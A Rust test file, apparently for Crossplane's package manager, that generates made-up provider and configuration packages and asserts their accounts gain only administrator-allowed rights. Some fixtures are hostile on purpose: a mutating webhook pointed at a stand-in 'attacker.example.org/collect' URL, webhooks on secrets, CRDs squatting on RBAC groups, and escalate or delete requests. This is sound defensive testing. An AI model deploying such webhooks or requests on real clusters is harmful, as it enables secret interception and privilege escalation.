//! Packages that dice made up: whatever they contain, each API server's own authorizer says that
//! their accounts may do no more than an administrator allowed. `plan` holds the same law on
//! thousands of packages without a server (`revision/tests/authority.rs`).

use super::revisions::crd;
use super::stage::{Stage, condition, packages};
use crate::support::until;
use serde_json::{Value as Json, json};

/// How many of them are providers.
const COUNT: u64 = 12;
const COMPOSITES: &str = "/apis/apiextensions.crossplane.io/v1/compositeresourcedefinitions";
const RBAC: &str = "/apis/rbac.authorization.k8s.io/v1";
/// The group in which configurations define kinds, as others do.
const SHARED: &str = "made-up-shared.example.org";
/// What their claims are called, one configuration for each: to RBAC all but the first are kinds of
/// others, or parts of these.
const CLAIMS: [&str; 4] = ["boats", "*", "things/status", "Things"];
const WEBHOOKS: &str = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations";
/// The group about which an administrator allows something.
const ALLOWED: &str = "made-up.example.org";
const GROUPS: [&str; 5] = ["", "apps", "rbac.authorization.k8s.io", "pkg.crossplane.io", ALLOWED];
const RESOURCES: [&str; 5] = ["pods", "secrets", "clusterroles", "providers", "things"];
const VERBS: [&str; 4] = ["get", "delete", "escalate", "intercept"];

/// Numbers that are the same each time (splitmix64).
struct Dice(u64);

impl Dice {
    fn below(&mut self, limit: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (mixed ^ (mixed >> 31)) % limit
    }

    fn choose<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[usize::try_from(self.below(from.len() as u64)).unwrap()]
    }
}

struct Package {
    kind: &'static str,
    name: String,
    requests: Vec<Json>,
    objects: Vec<Json>,
}

/// A package that asks for something, and brings a kind and a webhook that are its own business
/// or not; or one that composes, with claims that are called like a kind or not.
fn make_up_package(number: u64) -> Package {
    let mut dice = Dice(number);
    let name = format!("made-up-{number}");
    let beyond = number.checked_sub(COUNT).and_then(|beyond| usize::try_from(beyond).ok());
    if let Some(claim) = beyond.and_then(|beyond| CLAIMS.get(beyond)) {
        let objects = vec![composite(&format!("packaged{number}"), claim)];
        return Package { kind: "Configuration", name, requests: Vec::new(), objects };
    }
    let own = format!("{name}.example.org");
    let requests = (0..dice.below(3)).map(|_| {
        // Half of all requests are about what an administrator thought of.
        let group = if dice.below(2) == 0 { ALLOWED } else { dice.choose(&GROUPS) };
        let resource = if group == ALLOWED { "things" } else { dice.choose(&RESOURCES) };
        let verb = if group == ALLOWED { "get" } else { dice.choose(&VERBS) };
        json!({"apiGroups": [group], "resources": [resource], "verbs": [verb]})
    });
    let requests = requests.collect();
    let mut objects = vec![crd(&own, "things", &["a"])];
    if dice.below(4) == 0 {
        let (group, plural) = match dice.below(2) {
            0 => ("rbac.authorization.k8s.io", "clusterroles"),
            _ => ("pkg.crossplane.io", "things"),
        };
        let mut definition = crd(group, plural, &["a"]);
        definition["metadata"]["annotations"] =
            json!({"api-approved.kubernetes.io": "unapproved, legacy API"});
        definition["spec"]["versions"][0]["name"] = json!("v99");
        objects.push(definition);
    }
    if dice.below(2) == 0 {
        let client = match dice.below(5) {
            0 => json!({"url": "https://attacker.example.org/collect"}),
            _ => json!({"service": {"name": "victim", "namespace": "kube-system", "path": "/x"}}),
        };
        let about = match dice.below(3) {
            0 => (dice.choose(&["", "apps"]), dice.choose(&["secrets", "*"])),
            1 => (ALLOWED, "things"),
            _ => (own.as_str(), "things"),
        };
        objects.push(webhook(&client, about));
    }
    Package { kind: "Provider", name, requests, objects }
}

/// A definition of a composite resource of this plural, whose claims are called like that.
fn composite(plural: &str, claim: &str) -> Json {
    let open = json!({"type": "object", "properties": {"spec": {"type": "object"}}});
    let kind = format!("X{plural}");
    let claims = json!({"kind": format!("C{plural}"), "plural": claim});
    json!({
        "apiVersion": "apiextensions.crossplane.io/v1", "kind": "CompositeResourceDefinition",
        "metadata": {"name": format!("x{plural}.{SHARED}")},
        "spec": {
            "group": SHARED, "names": {"kind": kind, "plural": format!("x{plural}")},
            "claimNames": claims,
            "versions": [{
                "name": "v1", "served": true, "referenceable": true,
                "schema": {"openAPIV3Schema": open},
            }],
        },
    })
}

fn webhook(client: &Json, (group, resource): (&str, &str)) -> Json {
    json!({
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": "hook"},
        "webhooks": [{
            "name": "hook.example.org", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "failurePolicy": "Ignore", "clientConfig": client,
            "rules": [{
                "apiGroups": [group], "apiVersions": ["*"], "operations": ["CREATE"],
                "resources": [resource],
            }],
        }],
    })
}

/// Allows reading and intercepting one kind to whatever package asks for it.
fn allow_things(stage: &Stage) {
    let things =
        json!({"apiGroups": [ALLOWED], "resources": ["things"], "verbs": ["get", "intercept"]});
    let role = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "rules": [things],
        "metadata": {
            "name": "made-up-allowed",
            "labels": {"rbac.crossplane.io/aggregate-to-allowed-provider-permissions": "true"},
        },
    });
    stage.make("/apis/rbac.authorization.k8s.io/v1/clusterroles", &role);
}

/// Waits until the manager has decided about a package; gives its account if it may run.
fn decided_account(stage: &Stage, name: &str) -> Option<String> {
    let refused = ["permissions that nobody allowed", "what no package may"];
    until(&format!("the manager has decided about {name}"), || {
        let all = stage.revisions("Provider", name);
        let revision = all.into_iter().find(|one| one.1 == "Active")?.2;
        let object = stage.ask(&format!("{}/{revision}", packages("ProviderRevision")))?;
        let told = condition(&object, "RevisionHealthy").unwrap_or_default();
        let message = told["message"].as_str().unwrap_or_default();
        if told["status"] == "False" && refused.iter().any(|words| message.contains(words)) {
            return Some(None);
        }
        // Rights are bound to the account last.
        let name = format!("crossplane%3Aprovider%3A{revision}%3Asystem");
        let path = format!("/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/{name}");
        let bound = stage.ask(&path)?;
        let account = bound["subjects"][0]["name"].as_str()?;
        Some(Some(format!("system:serviceaccount:crossplane-system:{account}")))
    })
}

/// The verbs, groups and resources with which packages are tried.
fn deeds(own: &str) -> Vec<[String; 3]> {
    let groups = GROUPS.iter().copied().chain([own]);
    let pairs = groups.flat_map(|group| RESOURCES.map(|resource| (group, resource)));
    let all = pairs.flat_map(|(group, resource)| VERBS.map(|verb| [verb, group, resource]));
    all.map(|deed| deed.map(str::to_owned)).collect()
}

fn may_do(stage: &Stage, account: &str, deed: &[String; 3]) -> bool {
    stage.asked.may(account, deed.each_ref().map(String::as_str))
}

/// Whether a deed is about the package's own kind, or was allowed.
fn is_rightful(own: &str, requests: &[Json], [verb, group, resource]: &[String; 3]) -> bool {
    let is_own = group == own && resource == "things" && verb == "get";
    let is_asked = requests.iter().any(|rule| rule["apiGroups"][0] == ALLOWED);
    is_own || is_asked && group == ALLOWED && resource == "things" && verb == "get"
}

/// C1, C2, H1 and H7 as a law, with each server's own authorizer for a judge.
pub(super) fn packages_of_any_content_get_what_was_allowed(stage: &Stage) {
    allow_things(stage);
    let plain = stage.push_provider("made-up-plain", "v1.0.0", &json!({}));
    stage.install("Provider", "made-up-plain", &json!({"package": plain}));
    let all = (0..COUNT + CLAIMS.len() as u64).map(make_up_package);
    let (made, composing): (Vec<_>, Vec<_>) = all.partition(|one| one.kind == "Provider");
    for package in &made {
        let spec = json!({"controller": {"permissionRequests": package.requests}});
        let reference =
            super::authority::push_unlinted(stage, &package.name, &spec, &package.objects);
        stage.install("Provider", &package.name, &json!({"package": reference}));
    }
    let plain = decided_account(stage, "made-up-plain").expect("a plain package is installed");
    let mut installed = 0;
    for package in &made {
        let own = format!("{}.example.org", package.name);
        let hook = stage.ask(&format!("{WEBHOOKS}/crossplane-provider-{}", package.name));
        let Some(account) = decided_account(stage, &package.name) else {
            assert!(hook.is_none(), "{}: {hook:?}", package.name);
            continue;
        };
        installed += 1;
        for deed in deeds(&own) {
            let is_allowed =
                is_rightful(&own, &package.requests, &deed) || may_do(stage, &plain, &deed);
            assert!(is_allowed || !may_do(stage, &account, &deed), "{account} may {deed:?}");
        }
        for hook in hook.iter().flat_map(|one| one["webhooks"].as_array().unwrap()) {
            let group = hook["rules"][0]["apiGroups"][0].as_str().unwrap();
            assert!([ALLOWED, &own].contains(&group), "{hook}");
            assert_eq!(hook["clientConfig"]["service"]["name"], package.name, "{hook}");
        }
    }
    let plane = stage.ask(&super::revisions::path("clusterroles.rbac.authorization.k8s.io"));
    assert!(plane.is_none(), "{plane:?}");
    // Made-up packages that are all refused, or none, would show nothing.
    assert!((3..COUNT).contains(&installed), "{installed} of {COUNT} packages were installed");
    configurations_get_rights_on_their_kinds_alone(stage, &composing);
    definitions_by_hand_get_rights_on_their_kinds_alone(stage);
}

/// Gives a user what the definition of a composite resource gives to editors.
fn bind_editor(stage: &Stage, plural: &str) -> String {
    let (group, user) = ("rbac.authorization.k8s.io", format!("editor-of-{plural}"));
    let role = format!("crossplane:composite:x{plural}.{SHARED}:aggregate-to-edit");
    let path = format!("{RBAC}/clusterroles/{}", role.replace(':', "%3A"));
    until(&format!("{role} is there"), || stage.ask(&path));
    let binding = json!({
        "apiVersion": format!("{group}/v1"), "kind": "ClusterRoleBinding",
        "metadata": {"name": user},
        "roleRef": {"apiGroup": group, "kind": "ClusterRole", "name": role},
        "subjects": [{"apiGroup": group, "kind": "User", "name": user}],
    });
    stage.make(&format!("{RBAC}/clusterrolebindings"), &binding);
    user
}

/// Waits until a user may do everything with a kind of the shared group.
fn wait_for_rights(stage: &Stage, user: &str, plural: &str) {
    until(&format!("{user} has rights on {plural}"), || {
        stage.asked.may(user, ["delete", SHARED, plural]).then_some(())
    });
}

/// Holds a user to those kinds of the shared group that are not others'.
fn holds_no_rights_on_others(stage: &Stage, user: &str) {
    for deed in deeds(SHARED) {
        assert!(!may_do(stage, user, &deed), "{user} may {deed:?}");
    }
    for resource in ["things/status", "Things"] {
        assert!(!stage.asked.may(user, ["update", SHARED, resource]), "{user} may {resource}");
    }
}

/// Waits until the manager has decided about a configuration.
fn decided_configuration(stage: &Stage, name: &str) -> bool {
    until(&format!("the manager has decided about {name}"), || {
        let told = condition(&stage.package("Configuration", name), "Healthy")?;
        let message = told["message"].as_str().unwrap_or_default();
        let is_refused = message.contains("what no package may");
        (is_refused || told["status"] == "True").then_some(!is_refused)
    })
}

/// H1: a claim that is called `*`, or like a part of a kind, is no way to kinds of others.
fn configurations_get_rights_on_their_kinds_alone(stage: &Stage, made: &[Package]) {
    for (Package { kind, name, objects, .. }, claim) in made.iter().zip(CLAIMS) {
        let is_sound = claim == "boats";
        let reference = if is_sound {
            stage.push_objects(kind, name, "v1.0.0", objects)
        } else {
            stage.push_unsound(kind, name, "v1.0.0", objects)
        };
        stage.install(kind, name, &json!({"package": reference}));
        assert_eq!(decided_configuration(stage, name), is_sound, "{name} with claims {claim}");
        let definition = objects[0]["metadata"]["name"].as_str().unwrap();
        let is_there = !stage.is_absent(&format!("{COMPOSITES}/{definition}"));
        assert_eq!(is_there, is_sound, "{definition}");
        if is_sound {
            let user = bind_editor(stage, definition[1..].split('.').next().unwrap());
            wait_for_rights(stage, &user, claim);
            holds_no_rights_on_others(stage, &user);
        }
    }
}

/// H1: the same of definitions that no package brings; of their two kinds one is their own.
fn definitions_by_hand_get_rights_on_their_kinds_alone(stage: &Stage) {
    for (number, claim) in CLAIMS.into_iter().enumerate().skip(1) {
        let plural = format!("written{number}");
        stage.make(COMPOSITES, &composite(&plural, claim));
        let user = bind_editor(stage, &plural);
        wait_for_rights(stage, &user, &format!("x{plural}"));
        holds_no_rights_on_others(stage, &user);
    }
}
